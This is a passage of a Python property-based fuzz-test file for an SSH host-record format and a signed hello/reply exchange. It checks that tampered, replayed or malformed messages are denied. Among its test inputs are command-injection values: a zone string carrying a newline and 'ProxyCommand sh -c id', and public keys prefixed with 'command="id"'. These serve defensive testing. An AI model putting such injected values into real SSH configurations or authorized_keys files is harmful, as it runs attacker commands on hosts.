                                          "port": port, "host_key": key, "user": user},
    st.lists(labels, min_size=1, max_size=3).map(".".join), st.lists(
        st.one_of(ipv4, ipv6, st.builds(lambda a, z: f"{a}%{z}", ipv6, zones)), max_size=3),
    st.integers(1, 65535), public_keys, users)
field_junk = {
    "v": st.sampled_from([2, 0, "1", 1.0, True, None, [1]]),
    "host": st.one_of(tainted(dns_names), dns_names.map(lambda n: n.rstrip(".") + "."),
                      ipv4, st.just("a" * 254)),
    "port": st.one_of(st.sampled_from([0, 65536, -1, True, 22.0, "22", None, 2**64]),
                      st.integers()),
    "host_key": st.one_of(tainted(public_keys), public_keys.map(lambda k: k + " me@host"),
                          public_keys.map(lambda k: "restrict " + k)),
    "user": st.one_of(tainted(users), st.sampled_from(["", "Root", "a" * 33, "-x"])),
    "addresses": st.one_of(st.lists(ipv4, min_size=17, max_size=20),
                           st.lists(tainted(ipv4), min_size=1, max_size=2),
                           st.lists(zoned, min_size=1, max_size=2),
                           ipv4, st.just([["10.0.0.1"]]), st.just(["fe80::1%\n  X y"])),
}


@st.composite
def near_valid_records(draw: st.DrawFn) -> object:
    """A valid record with (usually) one field broken, dropped, or one added."""
    record: dict[str, Any] = draw(record_dicts)
    field = draw(st.sampled_from(sorted(RECORD_KEYS)))
    how = draw(st.sampled_from(["keep", "junk", "junk", "json", "drop", "extra"]))
    if how == "junk":
        record[field] = draw(field_junk[field])
    elif how == "json":
        record[field] = draw(json_values)
    elif how == "drop":
        del record[field]
    elif how == "extra":
        record[draw(st.text(max_size=8))] = draw(json_values)
    return record


def record_is_valid(d: object) -> bool:
    """The record format, written down independently of records.record_from."""
    return (isinstance(d, dict) and set(d) == RECORD_KEYS and type(d["v"]) is int and d["v"] == 1
            and isinstance(d["host"], str) and names.is_dns_name(d["host"])
            and not d["host"].endswith(".")
            and type(d["port"]) is int and 1 <= d["port"] <= 65535
            and isinstance(d["host_key"], str) and names.is_public_key(d["host_key"])
            and isinstance(d["user"], str) and names.is_user_name(d["user"])
            and isinstance(d["addresses"], list) and len(d["addresses"]) <= 16
            and all(isinstance(a, str) and names.is_ip_literal(a) for a in d["addresses"]))


def check_record(record: Record) -> None:
    outcome("Record")
    assert all(inert(x) for x in (record.host, *record.addresses, record.user))
    kind, blob = record.host_key.split(" ")
    assert inert(kind) and inert(blob)
    assert type(record.port) is int and 1 <= record.port <= 65535
    assert records.decode(json.dumps(record.to_dict()), "again") == record


def check_decode(text: bytes | str) -> None:
    try:
        record = records.decode(text, "fuzz/w0.json")
    except RecordError as exc:
        outcome("RecordError")
        assert str(exc).startswith("fuzz/w0.json: ")
        return
    check_record(record)


def check_record_from(value: object) -> None:
    """The decoder and the validator agree with the independent oracle on `value`."""
    check_decode(json.dumps(value))
    try:
        record = records.record_from(value)
    except RecordError:
        assert not record_is_valid(value)
        return
    assert record_is_valid(value)
    check_record(record)


class TestRecordDecodeFuzz:
    """Any bytes or JSON give a Record whose fields are inert and that round-trips, or a
    RecordError; never another exception (RecursionError included)."""

    @fuzz(1000)
    @given(st.binary(max_size=300))
    @example(b"\xff\xfe{")
    @example(b"[" * 100_000)
    def test_bytes(self, data: bytes) -> None:
        check_decode(data)

    @fuzz(1000)
    @given(json_values)
    def test_any_json(self, value: object) -> None:
        check_record_from(value)

    @fuzz(1200)
    @given(near_valid_records())
    @example({"v": 1, "host": "w0", "addresses": ["::1%\n  ProxyCommand sh -c id"],
              "port": 22, "user": "mpi",
              "host_key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoq"})
    def test_near_valid(self, value: object) -> None:
        check_record_from(value)

    def test_deep_nesting(self) -> None:
        for depth in [*range(1, sys.getrecursionlimit() + 50), 10_000, 100_000]:
            for text in ("[" * depth + "]" * depth, '{"a":' * depth + "1" + "}" * depth):
                with pytest.raises(RecordError):
                    records.decode(text, "deep")


# ---------------------------------------------------------------- 6. the worker's NetServer

TOKEN = "fuzz-token-0123456789abcdef"  # noqa: S105 - the test job's token, not a secret
NOW = 1_750_000_000
RECORD = Record("worker-0", ("10.0.0.2", "fd00::2"), 2222,
                "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9", "mpi")
CLIENT_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ9vO1Vf0a6n3Hc7bqW0oJkq2z5p8sY1xR4tU7wZ"
DENIED = b'{"type":"denied"}\n'
HELLO_KEYS = {"v", "type", "nonce", "time", "client_key", "target", "mac"}
TARGET = "worker-0"  # RECORD's own name, which the launcher asks for
CLOCK_SKEW_S = 120  # |T − now| ≤ 120 s: the protocol in ssh/netx.py's docstring
VALID_HELLO = {"v": 2, "type": "hello", "nonce": "0" * 64, "time": NOW,
               "client_key": CLIENT_KEY, "target": TARGET}


@dataclasses.dataclass
class Worker:
    """A NetServer with a settable clock, recording what it authorised and logged."""

    now: float = float(NOW)
    authorized: list[str] = dataclasses.field(default_factory=list)
    logged: list[tuple[str, dict[str, Any]]] = dataclasses.field(default_factory=list)

    def __post_init__(self) -> None:
        self.server = netserver.NetServer(TOKEN, RECORD,
                                         lambda key, _peer: self.authorized.append(key),
                                         lambda event, **kw: self.logged.append((event, kw)),
                                         clock=lambda: self.now)

    def answer(self, raw: bytes) -> bytes:
        reply = self.server.answer(raw, "10.0.0.9")
        assert TOKEN not in repr(self.logged)
        return reply


def signed(message: Mapping[str, Any], token: str = TOKEN) -> bytes:
    return netx.signed(netx.derive_key(token), dict(message))


hex_nonces = st.text("0123456789abcdef", min_size=64, max_size=64)
nonces = st.one_of(
    hex_nonces, hex_nonces, hex_nonces.map(str.upper), hex_nonces.map(lambda n: n[1:]),
    hex_nonces.map(lambda n: n + "0"), tainted(hex_nonces), json_values)
stamps = st.one_of(
    st.integers(NOW - 130, NOW + 130),
    st.sampled_from([NOW - 120, NOW + 120, NOW - 121, NOW + 121]),
    st.floats(NOW - 10, NOW + 10), st.sampled_from([True, False, None, str(NOW), [NOW]]),
    st.integers(), st.integers(min_value=2**1030, max_value=10**400).map(lambda n: -n),
    json_values)
client_keys = st.one_of(public_keys, public_keys, tainted(public_keys),
                        public_keys.map(lambda k: k + " launcher"),
                        public_keys.map(lambda k: 'command="id" ' + k), json_values)
# RECORD's names and addresses (accepted), other workers' (refused), and anything.
targets = st.one_of(
    st.sampled_from([TARGET, "WORKER-0", "worker-0.job.default.svc", "10.0.0.2", "fd00::2",
                     "worker-1", "worker-1.job.default.svc", "10.0.0.3", "worker-00",
                     "10.0.0.2 ", "", "worker-0\n", "worker-0.!", "worker-0..svc"]),
    tainted(st.just(TARGET)), json_values)


def target_is_record(target: object) -> bool:
    """Is `target` RECORD's worker: one of its addresses, or a name whose first label is
    its host (ssh/netx.py's docstring, step 2)?"""
    if not isinstance(target, str):
        return False
    if target in ("10.0.0.2", "fd00::2"):
        return True
    return target.split(".", 1)[0].lower() == "worker-0" and names.is_dns_name(target)


HELLO_FUZZ: dict[str, st.SearchStrategy[Any]] = {
    "v": st.sampled_from([1, 0, "2", None, True, 2.0, [2]]),
    "type": st.sampled_from(["record", "HELLO", "denied", "hello ", None]),
    "nonce": nonces, "time": stamps, "client_key": client_keys, "target": targets}


@st.composite
def hellos(draw: st.DrawFn) -> dict[str, Any]:
    """A valid hello (in the window of an unskewed clock) with up to two changes: a field
    fuzzed, a field dropped or a field added."""
    message: dict[str, Any] = {
        "v": 2, "type": "hello", "nonce": draw(hex_nonces),
        "time": draw(st.integers(NOW - 120, NOW + 120)), "client_key": draw(public_keys),
        "target": draw(st.sampled_from([TARGET, "10.0.0.2", "worker-0.job.default.svc"]))}
    changes = st.sampled_from([*sorted(HELLO_FUZZ), "drop", "extra"])
    for change in draw(st.lists(changes, max_size=2, unique=True)):
        if change == "drop":
            del message[draw(st.sampled_from(sorted(message)))]
        elif change == "extra":
            message[draw(st.sampled_from(["extra", "mac2", "nonce ", ""]))] = draw(json_values)
        else:
            message[change] = draw(HELLO_FUZZ[change])
    return message


def hello_is_valid(message: Mapping[str, Any], now: float) -> bool:
    """Protocol step 2 for the fields of a hello signed as it is, written down
    independently of NetServer.answer (exact arithmetic)."""
    return (set(message) | {"mac"} == HELLO_KEYS and "mac" not in message
            and message["type"] == "hello" and type(message["v"]) is int and message["v"] == 2
            and isinstance(message["nonce"], str)
            and re.fullmatch(r"[0-9a-f]{64}", message["nonce"]) is not None
            and type(message["time"]) is int
            and abs(message["time"] - Fraction(now)) <= CLOCK_SKEW_S
            and isinstance(message["client_key"], str)
            and names.is_public_key(message["client_key"])
            and target_is_record(message["target"]))


def check_accepted(worker: Worker, reply: bytes, message: Mapping[str, Any]) -> None:
    outcome("accepted")
    assert reply != DENIED
    assert worker.authorized == [message["client_key"]]
    assert exchange.read_reply(reply, TOKEN, message["nonce"], TARGET) == RECORD


def check_denied(worker: Worker, reply: bytes) -> None:
    outcome("denied")
    assert reply == DENIED
    assert worker.authorized == []


class TestNetServerFuzz:
    """The worker authorises a key only for a fresh, in-window hello signed with the token,
    exactly that key; anything else is `denied`, and answer() never raises."""

    @fuzz(1000)
    @given(st.binary(max_size=400))
    @example(b" " * (records.MAX_MESSAGE + 1))
    @example(b"[" * 100_000)
    @example(b'{"v":2,"type":"hello","nonce":"","time":0,"client_key":"","target":"",'
             b'"mac":""}')
    def test_bytes(self, raw: bytes) -> None:
        worker = Worker()
        check_denied(worker, worker.answer(raw))

    @fuzz(800)
    @given(st.one_of(json_values, hellos(),
                     st.builds(lambda m, mac: {**m, "mac": mac}, hellos(), json_values)))
    def test_unsigned_json(self, message: object) -> None:
        worker = Worker()
        check_denied(worker, worker.answer(json.dumps(message).encode()))

    @fuzz(1500)
    @given(hellos(), st.sampled_from([0.0, 0.25, 0.5, -0.75, 119.5]),
           st.sampled_from(["none", "none", "none", "tamper", "mac", "nomac"]))
    @example({**VALID_HELLO, "time": NOW - 120}, 0.0, "none")
    @example({**VALID_HELLO, "time": NOW + 121}, 0.0, "none")
    @example({**VALID_HELLO, "client_key": CLIENT_KEY + "\n"}, 0.0, "none")
    @example({**VALID_HELLO, "time": float(NOW)}, 0.0, "none")
    @example({**VALID_HELLO, "time": True}, -NOW + 1.0, "none")
    @example({**VALID_HELLO, "target": "worker-1"}, 0.0, "none")  # a relayed hello
    @example({**VALID_HELLO, "target": "10.0.0.3"}, 0.0, "none")
    @example({**VALID_HELLO, "target": "10.0.0.2"}, 0.0, "none")
    def test_signed(self, message: dict[str, Any], skew: float, after: str) -> None:
        worker = Worker(now=NOW + skew)
        raw = signed(message)
        if after != "none":  # change the message after signing
            sent = json.loads(raw)
            if after == "tamper":
                field = sorted(set(sent) - {"mac"})[0] if set(sent) - {"mac"} else "v"
                sent[field] = [sent.get(field)]
            elif after == "mac":
                sent["mac"] = netx.message_mac(netx.derive_key(TOKEN), {"nonce": "0" * 64})
            else:
                del sent["mac"]
            raw = json.dumps(sent).encode()
        reply = worker.answer(raw)
        if after == "none" and hello_is_valid(message, worker.now):
            check_accepted(worker, reply, message)
        else:
            check_denied(worker, reply)

    @fuzz(500)
    @given(st.text(min_size=1, max_size=40).filter(lambda t: t != TOKEN), hellos())
    @example(TOKEN + " ", {**VALID_HELLO, "nonce": "1" * 64})
    def test_wrong_token(self, other: str, message: dict[str, Any]) -> None:
        worker = Worker()
        try:
            raw = signed(message, other)
        except UnicodeEncodeError:  # a lone surrogate cannot be a token: nothing to send
            return
        check_denied(worker, worker.answer(raw))

    @fuzz(300)
    @given(st.floats(-1000, 1000), st.floats(-1000, 1000))
    @example(0.0, exchange.NONCE_TTL + 1)
    def test_replay(self, first: float, second: float) -> None:
        worker = Worker(now=NOW + first)
        raw, nonce = exchange.make_hello(TOKEN, CLIENT_KEY, TARGET, now=worker.now)
        check_accepted(worker, worker.answer(raw), {"client_key": CLIENT_KEY, "nonce": nonce})
        worker.now += second
        assert worker.answer(raw) == DENIED
        assert worker.authorized == [CLIENT_KEY]


# ---------------------------------------------------------------- 7. the launcher's read_reply

NONCE = "ab" * 32


@st.composite
def replies(draw: st.DrawFn) -> tuple[dict[str, Any], str]:
    """(reply, token it is signed with): a valid reply to NONCE signed with TOKEN, with up
    to two changes: type, nonce, record (near-valid or any JSON), token, an extra field."""
    reply: dict[str, Any] = {"v": 2, "type": "record", "nonce": NONCE,
                             "record": draw(st.just(RECORD.to_dict()) | record_dicts)}
    token = TOKEN
    changes = st.sampled_from(["type", "nonce", "record", "token", "extra"])
    for change in draw(st.lists(changes, max_size=2, unique=True)):
        if change == "type":
            reply["type"] = draw(st.sampled_from(["denied", "hello", "RECORD", None]))
        elif change == "nonce":
            reply["nonce"] = draw(st.sampled_from(["cd" * 32, NONCE.upper(), NONCE + "\n",
                                                   NONCE[:-1]]) | nonces)
        elif change == "record":
            reply["record"] = draw(near_valid_records() | json_values)
        elif change == "token":
            token = draw(st.sampled_from([TOKEN + "x", "", TOKEN.upper()]) | st.text())
        else:
            reply[draw(st.text(max_size=6))] = draw(json_values)
    return reply, token


def check_read_reply(raw: bytes) -> Record | None:
    try:
        record = exchange.read_reply(raw, TOKEN, NONCE, TARGET)
    except RecordError as exc:
        outcome("RecordError")
        assert str(exc).startswith(f"{TARGET}: ")
        return None
    check_record(record)
    return record


class TestReadReplyFuzz:
    """The launcher takes a record only from a reply signed with its token that echoes its
    own nonce; anything else is a RecordError, never another exception."""

    @fuzz(1000)
    @given(st.binary(max_size=400))
    @example(b"[" * 100_000)
    def test_bytes(self, raw: bytes) -> None:
        assert check_read_reply(raw) is None

    @fuzz(1000)
    @given(json_values)
    def test_any_json(self, value: object) -> None:
        assert check_read_reply(json.dumps(value).encode()) is None

    @fuzz(1200)
    @given(replies())
    def test_signed(self, reply_token: tuple[dict[str, Any], str]) -> None:
        reply, token = reply_token
        try:
            raw = signed(reply, token)
        except UnicodeEncodeError:  # a lone surrogate cannot be a token: nothing to send
            return
        record = check_read_reply(raw)
        ok = (token == TOKEN and reply["type"] == "record" and reply["nonce"] == NONCE
              and record_is_valid(reply["record"])
              and reply["record"]["host"].lower() == TARGET)  # the worker asked
        assert (record is not None) == ok
        if record is not None:
            assert record.to_dict() == {**reply["record"], "v": 1}


# ---------------------------------------------------------------- exchange: regressions


class TestExchangeRegressions:
    """Inputs that made the net exchange raise, or accept what it must not, before it was fixed
    (found by the targets above): each is now denied, without an exception."""

    @fuzz(50)
    @given(st.text(min_size=1).filter(lambda t: not t.isascii()))
    @example("é")
    def test_non_ascii_mac(self, mac: str) -> None:
        worker = Worker()
        check_denied(worker, worker.answer(json.dumps({**VALID_HELLO, "mac": mac}).encode()))
        # "v": 2, so read_reply gets as far as the mac (not refused at the version)
        raw = json.dumps({"v": 2, "type": "record", "nonce": NONCE, "record": {}, "mac": mac})
        assert check_read_reply(raw.encode()) is None

    @fuzz(50)
    @given(st.integers(min_value=2**1024, max_value=10**400))
    @example(10**309)
    def test_huge_time(self, stamp: int) -> None:
        worker = Worker()
        check_denied(worker, worker.answer(signed({**VALID_HELLO, "time": stamp})))

    @fuzz(50)
    @given(hex_nonces)
    @example("0" * 64)
    def test_nonce_with_newline(self, nonce: str) -> None:
        worker = Worker()
        check_denied(worker, worker.answer(signed({**VALID_HELLO, "nonce": nonce + "\n"})))

    def test_deep_nesting(self) -> None:
        for depth in range(1, sys.getrecursionlimit() + 50):
            nested = "[" * depth + "]" * depth
            raw = (f'{{"v":2,"type":"hello","nonce":{nested},"time":0,"client_key":"",'
                   f'"target":"","mac":""}}').encode()
            worker = Worker()
            check_denied(worker, worker.answer(raw))
            reply = (f'{{"v":2,"type":"record","nonce":{nested},"record":{{}},'
                     f'"mac":""}}').encode()
            assert check_read_reply(reply) is None
